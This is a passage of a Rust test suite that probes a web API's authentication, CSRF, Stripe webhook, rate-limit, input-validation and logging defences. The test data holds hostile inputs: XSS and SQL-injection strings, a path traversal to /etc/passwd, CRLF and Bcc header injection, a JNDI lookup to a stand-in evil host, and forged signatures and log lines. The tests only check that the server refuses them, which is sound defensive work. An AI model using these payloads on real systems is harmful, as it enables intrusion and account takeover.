                &format!("/api/auth/csrf-token?access_token={}", s.access_token),
            ),
        ),
        (
            "token in a cookie",
            get(Shape::RestV1, "/api/auth/csrf-token")
                .header("Cookie", &format!("access_token={}", s.access_token)),
        ),
        (
            "token without a scheme",
            get(Shape::HttpV2, "/api/auth/csrf-token").header("Authorization", &s.access_token),
        ),
        (
            "Basic scheme",
            get(Shape::RestV1, "/api/auth/csrf-token")
                .header("Authorization", &format!("Basic {}", s.access_token)),
        ),
        (
            "token and trailing words",
            get(Shape::HttpV2, "/api/auth/csrf-token")
                .header("Authorization", &format!("Bearer {} admin", s.access_token)),
        ),
        (
            "CSRF token as the bearer",
            get(Shape::RestV1, "/api/auth/csrf-token")
                .header("Authorization", &format!("Bearer {}", s.csrf_token)),
        ),
        (
            "X-Access-Token header",
            get(Shape::HttpV2, "/api/auth/csrf-token").header("X-Access-Token", &s.access_token),
        ),
    ];
    for (name, e) in cases {
        refused(&t.invoke("csrf-token", e).await, 401, "unauthorized", name);
    }
    let chat = |shape: Shape| {
        Event::new(shape, "POST", "/api/ai/chat")
            .json_body(&json!({"messages": [{"role": "user", "content": "hi"}]}))
    };
    let csrf_cases: Vec<(&str, Event)> = vec![
        (
            "the access token as the CSRF token",
            chat(Shape::RestV1)
                .header("Authorization", &format!("Bearer {}", s.access_token))
                .header("X-CSRF-Token", &s.access_token),
        ),
        (
            "another user's CSRF token",
            chat(Shape::HttpV2)
                .header("Authorization", &format!("Bearer {}", s.access_token))
                .header("X-CSRF-Token", &other.csrf_token),
        ),
        (
            "the same user's CSRF token from another login",
            chat(Shape::RestV1)
                .header("Authorization", &format!("Bearer {}", s.access_token))
                .header("X-CSRF-Token", &second_login.csrf_token),
        ),
        (
            "CSRF token in a cookie only",
            chat(Shape::RestV1)
                .header("Authorization", &format!("Bearer {}", s.access_token))
                .header("Cookie", &format!("csrf_token={}", s.csrf_token)),
        ),
        (
            "CSRF token with its expiry raised",
            chat(Shape::HttpV2)
                .header("Authorization", &format!("Bearer {}", s.access_token))
                .header("X-CSRF-Token", &{
                    let p: Vec<&str> = s.csrf_token.split('.').collect();
                    let later = p[1].parse::<u64>().unwrap_or(0) + 60;
                    format!("{}.{later}.{}.{}", p[0], p[2], p[3])
                }),
        ),
    ];
    for (name, e) in csrf_cases {
        refused(&t.invoke("chat", e).await, 403, "csrf-token-invalid", name);
    }
    t.assert_clean_logs().await;
}

#[tokio::test]
async fn given_keys_made_of_markup_when_posting_then_no_problem_body_echoes_them() {
    let mut t = Trace::default();
    let s = new_session().await;
    t.session(&s);
    let markup = format!("<img src=x onerror=alert(1)>{}", "x".repeat(3000));
    let authed = |e: Event| {
        e.header("Authorization", &format!("Bearer {}", s.access_token))
            .header("X-CSRF-Token", &s.csrf_token)
    };
    let cases: Vec<(&str, Event)> = vec![
        (
            "register",
            Event::new(Shape::HttpV2, "POST", "/api/auth/register").json_body(
                &json!({"email": "a@example.com", "password": PASSWORD, markup.clone(): 1}),
            ),
        ),
        (
            "login",
            Event::new(Shape::RestV1, "POST", "/api/auth/login")
                .json_body(&json!({"email": "a@example.com", markup.clone(): 1, "password": "p"})),
        ),
        (
            "chat",
            authed(Event::new(Shape::HttpV2, "POST", "/api/ai/chat").json_body(
                &json!({"messages": [{"role": "user", "content": "hi", markup.clone(): true}]}),
            )),
        ),
        (
            "payment-intent",
            authed(
                Event::new(Shape::RestV1, "POST", "/api/payments/create-payment-intent").json_body(
                    &json!({"amount": 2000, "currency": "usd", "metadata": {markup.clone(): "v"}}),
                ),
            ),
        ),
    ];
    for (function, e) in cases {
        let a = t.invoke(function, e).await;
        assert!(
            (400..500).contains(&a.status),
            "{function}: {} {}",
            a.status,
            a.body
        );
        assert!(
            !a.body.contains("<img"),
            "{function} echoed the key: {}",
            a.body
        );
        assert!(
            !a.body.contains("xxxxxxxxxx"),
            "{function} echoed the key: {}",
            a.body
        );
    }
}

// ------------------------------------------------------------------------------------------
// Replayed and doctored webhooks
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_replayed_or_doctored_webhooks_when_delivered_then_each_event_is_applied_once() {
    let mut t = Trace::default();
    let secret = webhook_secret();
    let id = format!("evt_replay_{}", tag());
    let intent = format!("pi_replay_{}", tag());
    let body = payment_event(&id, &intent, 1500);
    let header = signature::sign(body.as_bytes(), &secret, now());
    let first = t
        .invoke("webhook", delivery(Shape::RestV1, &body, &header))
        .await;
    assert_eq!(first.status, 200, "{}", first.body);
    assert_eq!(first.json(), json!({"received": true}));
    assert_security_headers(&first);
    // Stripe's retry, freshly signed, and a captured copy replayed: duplicates.
    for (i, h) in [
        signature::sign(body.as_bytes(), &secret, now() + 1),
        header.clone(),
    ]
    .iter()
    .enumerate()
    {
        let a = t.invoke("webhook", delivery(shape(i), &body, h)).await;
        assert_eq!(a.json(), json!({"received": true, "duplicate": true}));
        assert_security_headers(&a);
    }
    // The same event id with altered contents (signed, as only Stripe can) is not re-applied.
    let altered = payment_event(&id, &intent, 1);
    let a = t.invoke("webhook", signed(Shape::HttpV2, &altered)).await;
    assert_eq!(a.json(), json!({"received": true, "duplicate": true}));
    let record = ledger()
        .await
        .payment(&intent)
        .await
        .expect("read")
        .expect("record");
    assert_eq!((record.amount, record.updates), (Some(1500), 1));

    // A malformed copy of a processed event is refused, not acknowledged as a duplicate.
    let mut malformed: Value = serde_json::from_str(&body).expect("json");
    malformed["data"]["object"]["amount"] = json!("1500");
    let a = t
        .invoke("webhook", signed(Shape::RestV1, &malformed.to_string()))
        .await;
    refused(&a, 400, "malformed-request", "a malformed repeat");

    // A captured signature cannot be moved to another time, body or scheme.
    let sig = header.split("v1=").nth(1).expect("v1").to_string();
    let fresh_t = now();
    let stale_t = fresh_t - 400;
    let stale = signature::sign(body.as_bytes(), &secret, stale_t);
    let stale_sig = stale.split("v1=").nth(1).expect("v1");
    let other = payment_event(&format!("evt_other_{}", tag()), &intent, 1);
    let forged: Vec<(&str, String, String)> = vec![
        (
            "timestamp rewritten",
            body.clone(),
            format!("t={},v1={sig}", fresh_t + 2),
        ),
        ("another body", other.clone(), header.clone()),
        (
            "stale signature with a fresh t appended",
            body.clone(),
            format!("t={stale_t},v1={stale_sig},t={fresh_t}"),
        ),
        (
            "v0 scheme only",
            other.clone(),
            format!("t={fresh_t},v0={sig}"),
        ),
        (
            "upper-case V1",
            other.clone(),
            format!("t={fresh_t},V1={sig}"),
        ),
        ("empty v1", other.clone(), format!("t={fresh_t},v1=")),
        ("no t", other.clone(), format!("v1={sig}")),
        (
            "negative t",
            other.clone(),
            format!("t=-{fresh_t},v1={sig}"),
        ),
        (
            "trailing whitespace added to the body",
            format!("{body} "),
            header.clone(),
        ),
        ("the secret itself", other.clone(), secret.clone()),
    ];
    for (i, (name, b, h)) in forged.into_iter().enumerate() {
        let a = t.invoke("webhook", delivery(shape(i), &b, &h)).await;
        refused(&a, 400, "malformed-request", name);
        assert_eq!(
            a.json()["detail"],
            "The Stripe-Signature header is missing or does not match the payload.",
            "{name}"
        );
    }
    // Five copies of a new event at once: applied exactly once.
    let id = format!("evt_race_{}", tag());
    let intent = format!("pi_race_{}", tag());
    let body = payment_event(&id, &intent, 4200);
    let header = signature::sign(body.as_bytes(), &secret, now());
    let deliveries = (0..5).map(|i| {
        let e = delivery(shape(i), &body, &header);
        async move { invoke("webhook", &e).await }
    });
    let answers = futures_join_all(deliveries).await;
    let mut fresh = 0;
    for a in &answers {
        t.saw(a);
        assert_security_headers(a);
        match a.status {
            200 if a.json() == json!({"received": true}) => fresh += 1,
            200 => assert_eq!(a.json(), json!({"received": true, "duplicate": true})),
            503 => refused(a, 503, "service-unavailable", "concurrent copy"),
            other => panic!("unexpected {other}: {}", a.body),
        }
    }
    assert_eq!(fresh, 1, "exactly one copy is processed");
    let record = ledger()
        .await
        .payment(&intent)
        .await
        .expect("read")
        .expect("one copy recorded the payment");
    assert_eq!((record.amount, record.updates), (Some(4200), 1));
    t.assert_clean_logs().await;
}

/// Runs futures concurrently on the current task and collects their outputs in order.
async fn futures_join_all<F>(futures: impl Iterator<Item = F>) -> Vec<F::Output>
where
    F: std::future::Future + Send + 'static,
    F::Output: Send + 'static,
{
    let handles: Vec<_> = futures.map(tokio::spawn).collect();
    let mut out = Vec::new();
    for h in handles {
        out.push(h.await.expect("task"));
    }
    out
}

// ------------------------------------------------------------------------------------------
// Spoofed client IPs
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_spoofed_client_ip_headers_when_rate_limited_then_the_gateway_ip_counts_and_is_logged()
 {
    let mut t = Trace::default();
    let ip = unique_ip();
    let spoofs = [
        ("X-Forwarded-For", "203.0.113.7"),
        ("X-Real-IP", "203.0.113.8"),
        ("Forwarded", "for=203.0.113.9;proto=https"),
        ("True-Client-IP", "203.0.113.10"),
        ("CF-Connecting-IP", "203.0.113.11"),
        ("X-Client-IP", "203.0.113.12"),
    ];
    let mut statuses = Vec::new();
    let mut last = None;
    for (i, (name, value)) in spoofs.into_iter().enumerate() {
        // Register allows a burst of 2 per 10 s per IP; the third request is over it.
        let e = Event::new(shape(i), "POST", "/api/auth/register")
            .json_body(&json!({}))
            .header(name, value)
            .header("X-Forwarded-For", &format!("198.51.100.{i}, {ip}"))
            .source_ip(&ip);
        let a = t.invoke("register", e).await;
        statuses.push(a.status);
        last = Some(a);
        if statuses.len() == 3 {
            break;
        }
    }
    assert_eq!(
        statuses,
        [422, 422, 429],
        "spoofed headers never reset the count"
    );
    let a = last.expect("answer");
    refused(&a, 429, "rate-limited", "third register");
    assert!(a.header("retry-after").is_some());
    assert_eq!(a.header("x-ratelimit-limit"), Some("3"));
    t.assert_clean_logs().await;
    let id = a.header("x-request-id").expect("request id");
    let line = function_log()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|v| v["message"] == "request" && v["request_id"] == id)
        .expect("the request's log line");
    assert_eq!(line["client_ip"], ip.as_str(), "{line}");
    assert_eq!(line["event"], "rate_limit.exceeded");
}

// ------------------------------------------------------------------------------------------
// Look-alike and case-variant emails
// ------------------------------------------------------------------------------------------

fn login(shape: Shape, email: &str, password: &str) -> Event {
    Event::new(shape, "POST", "/api/auth/login")
        .json_body(&json!({"email": email, "password": password}))
}

fn register(shape: Shape, email: &str, password: &str) -> Event {
    Event::new(shape, "POST", "/api/auth/register")
        .json_body(&json!({"email": email, "password": password}))
}

#[tokio::test]
async fn given_look_alike_or_case_variant_emails_when_registering_or_logging_in_then_no_second_account_and_no_takeover()
 {
    let mut t = Trace::default();
    let victim = new_session().await;
    t.session(&victim);
    let attacker_password = "obsidian kestrel lagoon rampart 58";
    t.secret(attacker_password);
    let (local, domain) = victim.email.split_once('@').expect("an address");
    let look_alikes = [
        format!("{local}@{}", domain.replacen('e', "\u{0435}", 1)), // Cyrillic е
        format!("{}@{domain}", local.replacen('u', "\u{057D}", 1)), // Armenian ս
        format!("{local}\u{FF20}{domain}"),                         // fullwidth ＠
        format!("{local}\u{200B}@{domain}"),                        // zero-width space
        format!("{}@{domain}", local.replacen('e', "e\u{0301}", 1)), // combining accent
        format!("\u{FF55}{}@{domain}", &local[1..]),                // fullwidth ｕ
    ];
    for (i, email) in look_alikes.iter().enumerate() {
        let a = t
            .invoke("register", register(shape(i), email, attacker_password))
            .await;
        refused(&a, 422, "validation-failed", email);
        assert_eq!(a.json()["errors"][0]["field"], "email", "{email}");
        let a = t
            .invoke("login", login(shape(i + 1), email, &victim.password))
            .await;
        refused(&a, 401, "invalid-credentials", email);
    }
    // A case variant of a taken address answers like a new one, creates nothing, and the
    // attacker's password never opens the victim's account.
    let upper = victim.email.to_uppercase();
    let a = t
        .invoke(
            "register",
            register(Shape::RestV1, &upper, attacker_password),
        )
        .await;
    assert_eq!(a.status, 202, "{}", a.body);
    assert_security_headers(&a);
    for email in [upper.as_str(), victim.email.as_str()] {
        let a = t
            .invoke("login", login(Shape::HttpV2, email, attacker_password))
            .await;
        refused(&a, 401, "invalid-credentials", email);
    }
    let a = t
        .invoke(
            "login",
            login(Shape::RestV1, &format!("  {upper}  "), &victim.password),
        )
        .await;
    assert_eq!(a.status, 200, "the victim still signs in: {}", a.body);
    assert_security_headers(&a);
    t.secret(a.json()["access_token"].as_str().unwrap_or("missing"));
    t.secret(a.json()["csrf_token"].as_str().unwrap_or("missing"));

    // Failed logins count per normalised address: variants share one throttle.
    let target = new_session().await;
    t.session(&target);
    let variants = [
        target.email.to_uppercase(),
        format!(" {} ", target.email),
        target.email.replacen("example", "EXAMPLE", 1),
        format!("\t{}", target.email.to_uppercase()),
        target.email.clone(),
    ];
    for (i, email) in variants.iter().enumerate() {
        let a = t
            .invoke("login", login(shape(i), email, "not the passphrase 000"))
            .await;
        refused(&a, 401, "invalid-credentials", email);
    }
    let a = t
        .invoke(
            "login",
            login(Shape::RestV1, &target.email, &target.password),
        )
        .await;
    refused(&a, 429, "account-throttled", "sixth attempt");
    assert!(a.header("retry-after").is_some());
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// Business rules (ASVS V2)
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_business_rule_bypasses_when_posted_then_422_naming_the_field() {
    let mut t = Trace::default();
    let mut users = Users::default();
    let payments = [
        (json!({"amount": 2000, "currency": "USD"}), "currency"),
        (json!({"amount": 2000, "currency": "usd "}), "currency"),
        (json!({"amount": 2000, "currency": "btc"}), "currency"),
        (json!({"amount": 2000, "currency": ["usd"]}), "currency"),
        (
            json!({"amount": 2000, "currency": "usd", "metadata": (0..21).map(|i| (format!("k{i}"), json!("v"))).collect::<serde_json::Map<_, _>>()}),
            "metadata",
        ),
        (
            json!({"amount": 2000, "currency": "usd", "metadata": {"a.b": "v"}}),
            "metadata",
        ),
        (
            json!({"amount": 2000, "currency": "usd", "metadata": {"k": "v".repeat(501)}}),
            "metadata",
        ),
        (
            json!({"amount": 2000, "currency": "usd", "metadata": {"k": 1}}),
            "metadata.k",
        ),
        (
            json!({"amount": 2000, "currency": "usd", "description": "d".repeat(1001)}),
            "description",
        ),
    ];
    for (i, (body, field)) in payments.into_iter().enumerate() {
        let s = users.next(&mut t).await;
        let a = t
            .invoke(
                "payment-intent",
                authed(Event::new(shape(i), "POST", PAYMENT), &s).json_body(&body),
            )
            .await;
        refused(&a, 422, "validation-failed", &body.to_string());
        assert!(
            a.json()["errors"]
                .as_array()
                .is_some_and(|e| e.iter().any(|e| e["field"] == field)),
            "{field}: {}",
            a.body
        );
    }
    let msg = |role: &str, content: &str| json!({"role": role, "content": content});
    let chats = [
        (
            json!({"messages": [msg("System", "x")]}),
            "messages[0].role",
        ),
        (
            json!({"messages": [msg(" system", "x")]}),
            "messages[0].role",
        ),
        (json!({"messages": [msg("tool", "x")]}), "messages[0].role"),
        (
            json!({"messages": [msg("developer", "x")]}),
            "messages[0].role",
        ),
        (
            json!({"messages": [msg("user", "")]}),
            "messages[0].content",
        ),
        (
            json!({"messages": (0..51).map(|_| msg("user", "x")).collect::<Vec<_>>()}),
            "messages",
        ),
        (
            json!({"messages": [msg("user", &"a".repeat(8000)), msg("user", &"a".repeat(8000)), msg("user", &"a".repeat(8000)), msg("user", &"a".repeat(8000)), msg("user", "a")]}),
            "messages",
        ),
        (
            json!({"messages": [msg("user", &"é".repeat(8001))]}),
            "messages[0].content",
        ),
        (
            json!({"messages": [msg("user", "x")], "model": "gpt-4o"}),
            "model",
        ),
    ];
    for (i, (body, field)) in chats.into_iter().enumerate() {
        let s = users.next(&mut t).await;
        let a = t
            .invoke(
                "chat",
                authed(Event::new(shape(i), "POST", "/api/ai/chat"), &s).json_body(&body),
            )
            .await;
        refused(&a, 422, "validation-failed", field);
        assert!(
            a.json()["errors"]
                .as_array()
                .is_some_and(|e| e.iter().any(|e| e["field"] == field)),
            "{field}: {}",
            a.body
        );
    }
    let email = |local: &str| format!("{local}-{}@example.com", tag());
    let registrations = [
        (
            json!({"email": email("name"), "password": PASSWORD, "name": "a\u{0007}b"}),
            "name",
        ),
        (
            json!({"email": email("name"), "password": PASSWORD, "name": "n".repeat(101)}),
            "name",
        ),
        (
            json!({"email": email("name"), "password": PASSWORD, "name": "   "}),
            "name",
        ),
        (
            json!({"email": format!("{}@example.com", "a".repeat(250)), "password": PASSWORD}),
            "email",
        ),
        (
            json!({"email": "a@b.example\r\nBcc: x@evil.example", "password": PASSWORD}),
            "email",
        ),
        (
            json!({"email": email("long"), "password": format!("{PASSWORD} {}", "z".repeat(100))}),
            "password",
        ),
    ];
    for (i, (body, field)) in registrations.into_iter().enumerate() {
        let a = t
            .invoke(
                "register",
                Event::new(shape(i), "POST", "/api/auth/register").json_body(&body),
            )
            .await;
        refused(&a, 422, "validation-failed", field);
        assert!(
            a.json()["errors"]
                .as_array()
                .is_some_and(|e| e.iter().any(|e| e["field"] == field)),
            "{field}: {}",
            a.body
        );
    }
    let a = t
        .invoke(
            "login",
            login(Shape::RestV1, "a@b.example", &"p".repeat(129)),
        )
        .await;
    refused(&a, 422, "validation-failed", "login password over 128");
    t.assert_clean_logs().await;
}

#[tokio::test]
async fn given_free_text_that_looks_like_an_attack_when_chatting_or_paying_then_it_is_data() {
    let mut t = Trace::default();
    let mut users = Users::default();
    for (i, content) in [
        "'; DROP TABLE users; --",
        "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
        "../../etc/passwd %00 %0d%0a",
        "line one\r\nSet-Cookie: pwned=1",
        "{{7*7}} ${jndi:ldap://evil.example/a}",
    ]
    .into_iter()
    .enumerate()
    {
        let s = users.next(&mut t).await;
        let body = json!({"messages": [{"role": "user", "content": content}]});
        let a = t
            .invoke(
                "chat",
                authed(Event::new(shape(i), "POST", "/api/ai/chat"), &s).json_body(&body),
            )
            .await;
        assert_eq!(a.status, 200, "{content}: {}", a.body);
        assert_security_headers(&a);
        assert_eq!(a.header("content-type"), Some("application/json"));
        assert!(a.header("set-cookie").is_none());
        let words = content.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(
            a.json()["message"]["content"]
                .as_str()
                .is_some_and(|c| c.ends_with(&words)),
            "{}",
            a.body
        );
    }
    let s = users.next(&mut t).await;
    let a = t
        .invoke(
            "payment-intent",
            authed(Event::new(Shape::RestV1, "POST", PAYMENT), &s).json_body(
                &json!({"amount": 900, "currency": "eur", "description": "<script>x</script>' OR '1'='1"}),
            ),
        )
        .await;
    assert_eq!(a.status, 200, "{}", a.body);
    assert_security_headers(&a);
    t.secret(a.json()["client_secret"].as_str().unwrap_or("missing"));
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// Media types, methods and origins
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_a_body_that_is_not_json_when_posted_then_415_before_anything_else() {
    let mut t = Trace::default();
    let types = [
        Some("text/plain"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/json; charset=latin1"),
        Some("application/json; charset=utf-16"),
        Some("application/jsonp"),
        Some("application/json, text/html"),
        Some("text/json"),
        Some("application/vnd.api+json"),
        None,
    ];
    for (i, r) in routes().iter().filter(|r| r.body_limit > 0).enumerate() {
        for (j, ct) in types.iter().enumerate() {
            let mut e = Event::new(shape(i + j), r.method, r.path).body(r#"{"a":1}"#);
            if let Some(ct) = ct {
                e = e.header("Content-Type", ct);
            }
            let a = t.invoke(r.function, e).await;
            refused(
                &a,
                415,
                "unsupported-media-type",
                &format!("{} {ct:?}", r.function),
            );
        }
        // Media type names are case-insensitive, and so is the charset.
        let e = Event::new(shape(i), r.method, r.path)
            .header("Content-Type", "APPLICATION/JSON; Charset=\"UTF-8\"")
            .body(r#"{"a":1}"#);
        let a = t.invoke(r.function, e).await;
        assert_problem(&a, a.status);
        assert_ne!(a.status, 415, "{}: {}", r.function, a.body);
    }
    t.assert_clean_logs().await;
}

#[test]
fn given_method_tampering_over_http_then_405_with_allow_and_override_headers_ignored() {
    let mut t = Trace::default();
    for r in routes() {
        let allow = format!("{}, OPTIONS", r.method);
        for method in ["TRACE", "QUERY", "PATCH", "PUT"] {
            let a = t.http(method, r.path, &[], b"");
            refused(
                &a,
                405,
                "method-not-allowed",
                &format!("{method} {}", r.path),
            );
            assert_eq!(
                a.header("allow"),
                Some(allow.as_str()),
                "{method} {}",
                r.path
            );
        }
    }
    let account = route("account");
    for (name, value) in [
        ("X-HTTP-Method-Override", "DELETE"),
        ("X-HTTP-Method", "DELETE"),
        ("X-Method-Override", "DELETE"),
    ] {
        let a = t.http("POST", account.path, &[(name, value)], b"");
        refused(&a, 405, "method-not-allowed", name);
        assert_eq!(a.header("allow"), Some("DELETE, OPTIONS"));
    }
    let a = t.http("GET", "/api/account?_method=DELETE", &[], b"");
    refused(&a, 405, "method-not-allowed", "_method=DELETE");
    tokio::runtime::Runtime::new()
        .expect("runtime")
        .block_on(t.assert_clean_logs());
}

#[tokio::test]
async fn given_cross_origin_state_changes_with_valid_tokens_then_403_and_no_cors_grant() {
    let mut t = Trace::default();
    let s = new_session().await;
    t.session(&s);
    let origins = [
        ("Origin", "null"),
        ("Origin", "http://localhost:3000.evil.example"),
        ("Origin", "http://localhost:3000@evil.example"),
        ("Origin", "https://localhost:3000"),
        ("Origin", "http://localhost:30000"),
        ("Sec-Fetch-Site", "cross-site"),
    ];
    for (i, (name, value)) in origins.into_iter().enumerate() {
        for (function, path, body) in [
            (
                "chat",
                "/api/ai/chat",
                json!({"messages": [{"role": "user", "content": "hi"}]}),
            ),
            (
                "payment-intent",
                PAYMENT,
                json!({"amount": 2000, "currency": "usd"}),
            ),
        ] {
            let e = authed(Event::new(shape(i), "POST", path), &s)
                .json_body(&body)
                .header(name, value);
            let a = t.invoke(function, e).await;
            refused(
                &a,
                403,
                "cross-origin-request",
                &format!("{function} {value}"),
            );
            assert!(a.header("access-control-allow-origin").is_none());
            assert_eq!(a.header("vary"), Some("Origin"));
        }
    }
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// Passwords at the edges (ASVS V6)
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_long_or_unicode_passwords_when_signing_in_then_never_truncated_trimmed_or_normalised()
 {
    let mut t = Trace::default();
    let email = format!("edges-{}@example.com", tag());
    // 128 characters, well over bcrypt's 72 bytes, with multi-byte characters and a space at
    // the end.
    let base = format!(
        "{PASSWORD} obsidian kestrel lagoon rampart sequoia thistle 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ünïcödé zephyr nebula anvil bramble cinder delta falcon garnet"
    );
    let password: String = base.chars().take(127).chain([' ']).collect();
    assert_eq!(password.chars().count(), 128);
    t.secret(&password);
    let a = t
        .invoke("register", register(Shape::HttpV2, &email, &password))
        .await;
    assert_eq!(a.status, 202, "{}", a.body);
    // The account exists once the mailed link is followed with the very same password.
    let token = mailed_token(&email, 1, "verify").await;
    t.secret(&token);
    let a = verify_email(&token, &password).await;
    t.saw(&a);
    assert_eq!(a.status, 204, "{}", a.body);
    let first_72_bytes = String::from_utf8_lossy(&password.as_bytes()[..72]).into_owned();
    for (i, wrong) in [
        first_72_bytes.as_str(),
        password.trim_end(),
        &password.to_uppercase(),
    ]
    .into_iter()
    .enumerate()
    {
        t.secret(wrong);
        let a = t.invoke("login", login(shape(i), &email, wrong)).await;
        refused(&a, 401, "invalid-credentials", "a variant of the password");
    }
    let a = t
        .invoke("login", login(Shape::RestV1, &email, &password))
        .await;
    assert_eq!(a.status, 200, "{}", a.body);
    assert_security_headers(&a);
    assert!(a.header("set-cookie").is_none(), "tokens only in the body");
    assert_eq!(a.header("cache-control"), Some("no-store"));
    t.secret(a.json()["access_token"].as_str().unwrap_or("missing"));
    t.secret(a.json()["csrf_token"].as_str().unwrap_or("missing"));
    let too_long: String = format!("{password}x");
    t.secret(&too_long);
    let a = t
        .invoke(
            "register",
            register(Shape::RestV1, &format!("x{email}"), &too_long),
        )
        .await;
    refused(&a, 422, "validation-failed", "129 characters");
    assert!(!a.body.contains("obsidian"), "the password is never echoed");
    t.assert_clean_logs().await;
}

// ------------------------------------------------------------------------------------------
// Logging and errors (ASVS V16)
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn given_log_injection_attempts_when_refused_then_one_escaped_line_each_and_no_user_data() {
    let mut t = Trace::default();
    let canary = format!("forged-{}", tag());
    let forged_line = format!(r#"{{"level":"ERROR","message":"{canary}","event":"ip.blocked"}}"#);
    let email = format!("x@example.com\n{forged_line}");
    let a = t
        .invoke(
            "login",
            login(Shape::RestV1, &email, "any passphrase at all 12"),
        )
        .await;
    refused(&a, 401, "invalid-credentials", "newline in the email");
    let a = t
        .invoke(
            "register",
            Event::new(Shape::HttpV2, "POST", "/api/auth/register")
                .json_body(&json!({"email": email, "password": PASSWORD, "name": forged_line})),
        )
        .await;
    refused(
        &a,
        422,
        "validation-failed",
        "newline in the email and name",
    );
    let path = format!("/api/health/{canary}");
    let a = t
        .invoke("health", Event::new(Shape::RestV1, "GET", &path))
        .await;
    refused(&a, 404, "not-found", "unknown path");
    t.assert_clean_logs().await;
    let log = function_log();
    assert!(!log.contains(&canary), "user data reached the log");
    for id in &t.request_ids {
        let lines: Vec<Value> = log
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|v| v["message"] == "request" && v["request_id"] == id.as_str())
            .collect();
        assert_eq!(lines.len(), 1, "one request line for {id}");
        assert!(
            lines[0]["route"]
                .as_str()
                .is_some_and(|r| r.starts_with("/api/")),
            "the route, never the raw path: {}",
            lines[0]
        );
    }
}
